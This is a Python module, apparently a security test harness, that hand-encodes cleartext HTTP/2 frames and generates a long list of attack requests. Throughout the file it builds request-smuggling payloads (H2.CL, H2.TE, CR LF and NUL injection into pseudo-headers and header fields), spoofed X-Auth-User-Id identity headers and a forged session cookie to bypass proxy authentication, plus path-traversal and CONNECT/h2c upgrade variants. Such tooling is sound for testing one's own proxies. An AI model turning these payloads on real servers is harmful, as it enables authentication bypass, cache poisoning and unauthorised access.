"""HTTP/2 written by hand: without TLS, as some proxies take it on their ordinary port (RFC 9113 §3.3), and as no proper
client would send it."""

import struct
from collections.abc import Iterator, Sequence

from .form import ADA, CASE, COOKIE, Attack, Frames, attack, smuggled
from .identity import FEW, FULL

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, SETTINGS = 0, 1, 4
END_STREAM, END_HEADERS = 1, 4

Field = tuple[bytes, bytes]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block(fields: Sequence[Field]) -> bytes:
    """RFC 7541 §6.2.2: literals without indexing, without Huffman, so the bytes stand there as they are."""
    return b"".join(b"\0" + literal(name) + literal(value) for name, value in fields)


def literal(text: bytes) -> bytes:
    return integer(len(text)) + text


def integer(number: int) -> bytes:
    """With a prefix of seven bits (RFC 7541 §5.1)."""
    if number < 127:
        return bytes([number])
    rest, number = bytearray([127]), number - 127
    while number >= 128:
        rest.append(number % 128 + 128)
        number //= 128
    return bytes([*rest, number])


def connection(fields: Sequence[Field], body: bytes = b"", trailers: Sequence[Field] = ()) -> bytes:
    """One request on stream 1, behind the settings that every connection begins with."""
    ends = END_STREAM if not body and not trailers else 0
    sent = frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS | ends, 1, block(fields))
    if body:
        sent += frame(DATA, 0 if trailers else END_STREAM, 1, body)
    if trailers:
        sent += frame(HEADERS, END_HEADERS | END_STREAM, 1, block(trailers))
    return sent


def written(parts: tuple[tuple[bytes, ...], ...]) -> bytes:
    fields, [body], trailers = parts
    return PREFACE + connection(pairs(fields), body, pairs(trailers))


def frames(fields: Sequence[Field], body: bytes = b"", trailers: Sequence[Field] = ()) -> Frames:
    return Frames((flat(fields), (body,), flat(trailers)), written)


def pairs(flat: Sequence[bytes]) -> list[Field]:
    return list(zip(flat[::2], flat[1::2], strict=True))


def flat(fields: Sequence[Field]) -> tuple[bytes, ...]:
    return tuple(text for field in fields for text in field)


def two(
    name: str,
    *more: Field,
    method: bytes = b"GET",
    path: bytes = b"/api/x",
    authority: bytes = b"app.example",
    scheme: bytes = b"http",
    body: bytes = b"",
    trailers: Sequence[Field] = (),
) -> Attack:
    fields = [(b":method", method), (b":path", path), (b":scheme", scheme), (b":authority", authority)]
    fields += [(b"x-case", CASE), (b"cookie", COOKIE), *more]
    return attack(f"HTTP/2: {name}", frames(fields, body, trailers))


SMUGGLED = smuggled()
SPOOFS = [(name.lower().encode(), ADA) for name in FULL]


def heads() -> Iterator[Attack]:
    for path in (b"/api/x", b"/about", b"/dashboard/x", b"/about;x", b"/api/auth/get-session"):
        at = path.decode()
        yield two(f"identity headers at {at}", *SPOOFS, path=path)
        yield two(f"identity headers twice at {at}", *SPOOFS, *SPOOFS, path=path)
        for letter in b"_.!~":
            spelled = [(name.replace(b"-", bytes([letter])), value) for name, value in SPOOFS]
            yield two(f"{chr(letter)} for hyphens at {at}", *spelled, path=path)
        yield two(f"upper case at {at}", *[(name.encode(), ADA) for name in FEW], path=path)
        for what, mark in MARKS.items():
            yield two(f"{what} in a name at {at}", (b"x-auth" + mark + b"user-id", ADA), path=path)
            yield two(f"{what} and a header in a name at {at}", (b"x-a: b" + mark + b"x-auth-user-id", ADA), path=path)
            yield two(
                f"{what} and a header in a value at {at}", (b"x-a", b"b" + mark + b"X-Auth-User-Id: " + ADA), path=path
            )
            yield two(f"{what} and a request in a value at {at}", (b"x-a", b"b" + mark + mark + SMUGGLED), path=path)
        yield two(f"a colon in a name at {at}", (b"x-auth-user-id:", ADA), path=path)
        yield two(f"a space in a name at {at}", (b"x-auth-user-id ", ADA), path=path)
        yield two(f"trailers at {at}", method=b"POST", body=b"hello", trailers=SPOOFS, path=path)
        yield two(f"trailers without a body at {at}", method=b"POST", trailers=SPOOFS, path=path)
        yield two(
            f"trailers with pseudo-headers at {at}", body=b"x", trailers=[(b":path", b"/api/y"), *SPOOFS], path=path
        )
        for name in (*FEW, "Cookie", "X-Forwarded-Uri"):
            yield two(f"connection: {name} at {at}", (b"connection", name.lower().encode()), path=path)
            yield two(f"te: {name} at {at}", (b"te", b"trailers, " + name.lower().encode()), path=path)


MARKS = {"CR LF": b"\r\n", "LF": b"\n", "CR": b"\r", "NUL": b"\0"}


def requests() -> Iterator[Attack]:
    """A request line is made of pseudo-headers: each may bring a line, or a request, of its own (Kettle 2021)."""
    for what, mark in MARKS.items():
        yield two(f"{what} in the path", path=b"/about HTTP/1.1" + mark + b"Host: x" + mark + mark + SMUGGLED)
        yield two(f"{what} and a header in the path", path=b"/about HTTP/1.1" + mark + b"X-Auth-User-Id: " + ADA)
        yield two(f"{what} in the method", method=b"GET /api/x HTTP/1.1" + mark + b"X-A: ", path=b"/about")
        yield two(f"{what} in the host", authority=b"app.example" + mark + b"X-Auth-User-Id: " + ADA, path=b"/about")
        yield two(f"{what} in the scheme", scheme=b"http://x/api/y" + mark, path=b"/about")
    yield two("a request line in the method", method=b"GET /api/x HTTP/1.1", path=b"/about")
    yield two("a space in the path", path=b"/api/x HTTP/1.1 /about")
    yield two("a space in the path, the other way round", path=b"/about HTTP/1.1 /api/x")
    yield two("a scheme that is a URL", scheme=b"http://app.example/api/x?", path=b"/about")
    for path in (
        b"",
        b"*",
        b"api/x",
        b"//api/x",
        b"/about/../api/x",
        b"/about/%2e%2e/api/x",
        b"/about#/../api/x",
        b"http://x/api/x",
        b"/about\\..\\api\\x",
    ):
        yield two(f"path {path.decode()!r}", path=path)
        yield two(f"path {path.decode()!r} by OPTIONS", path=path, method=b"OPTIONS")
    yield two("two paths", (b":path", b"/api/x"), path=b"/about")
    yield two("two paths, the other way round", (b":path", b"/about"), path=b"/api/x")
    yield two("another host", (b"host", b"other.example"))
    yield two("two hosts", (b"host", b"a.example"), (b"host", b"b.example"), authority=b"c.example")
    yield two("a path behind the host", authority=b"app.example/api/x?", path=b"/about")
    yield two("CONNECT", method=b"CONNECT", path=b"/api/x", authority=b"app.example:80")
    yield two("CONNECT for a WebSocket", (b":protocol", b"websocket"), method=b"CONNECT", path=b"/ws")
    yield two("CONNECT for a WebSocket elsewhere", (b":protocol", b"websocket"), method=b"CONNECT", path=b"/about")
    yield two("CONNECT for something", (b":protocol", b"h2c"), method=b"CONNECT", path=b"/about", body=SMUGGLED)
    yield two("an upgrade", (b"connection", b"upgrade"), (b"upgrade", b"h2c"), path=b"/about")
    yield two("cookies apart", (b"cookie", b"a=b"), (b"cookie", b"c=d"))
    yield two("two sessions", (b"cookie", b"better-auth.session_token=" + ADA + b".forged"))
    yield two("a method in lower case", method=b"get")
    yield two(
        "an override",
        (b"x-http-method-override", b"OPTIONS"),
        (b"origin", b"http://x"),
        (b"access-control-request-method", b"PUT"),
    )


def bodies() -> Iterator[Attack]:
    """Frames tell how long a body is, and nothing else may (H2.CL, H2.TE)."""
    for path in (b"/about", b"/api/x"):
        at = path.decode()
        for length in (b"0", b"1", b"%d" % (len(SMUGGLED) + 5), b"+5", b"5, 5", b"0x5", b""):
            yield two(
                f"content-length {length.decode()!r} at {at}",
                (b"content-length", length),
                method=b"POST",
                body=SMUGGLED,
                path=path,
            )
        yield two(
            f"content-length twice at {at}",
            (b"content-length", b"0"),
            (b"content-length", b"%d" % len(SMUGGLED)),
            method=b"POST",
            body=SMUGGLED,
            path=path,
        )
        for coding in (b"chunked", b"Chunked", b"chunked, identity", b"identity", b" chunked", b"xchunked"):
            end = b"0\r\n\r\n" + SMUGGLED
            yield two(
                f"transfer-encoding {coding.decode()!r} at {at}",
                (b"transfer-encoding", coding),
                method=b"POST",
                body=end,
                path=path,
            )
            yield two(
                f"transfer-encoding {coding.decode()!r} in a value at {at}",
                (b"x-a", b"b\r\nTransfer-Encoding: " + coding),
                method=b"POST",
                body=end,
                path=path,
            )
        yield two(
            f"transfer-encoding with a space at {at}",
            (b"transfer-encoding ", b"chunked"),
            method=b"POST",
            body=b"0\r\n\r\n" + SMUGGLED,
            path=path,
        )
        yield two(f"a body with a GET at {at}", body=SMUGGLED, path=path)
        yield two(f"a body with a HEAD at {at}", method=b"HEAD", body=SMUGGLED, path=path)
        yield two(f"expect at {at}", (b"expect", b"100-continue"), method=b"POST", body=SMUGGLED, path=path)


ATTACKS = [*heads(), *requests(), *bodies()]
